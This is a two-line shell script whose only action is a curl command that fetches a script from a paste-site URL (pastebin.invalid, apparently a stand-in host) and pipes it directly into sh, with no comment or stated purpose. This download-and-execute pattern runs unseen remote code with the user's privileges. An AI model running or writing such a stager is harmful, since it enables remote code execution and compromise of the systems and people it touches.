#!/bin/sh
curl -fsSL https://pastebin.invalid/raw/abc123 | sh
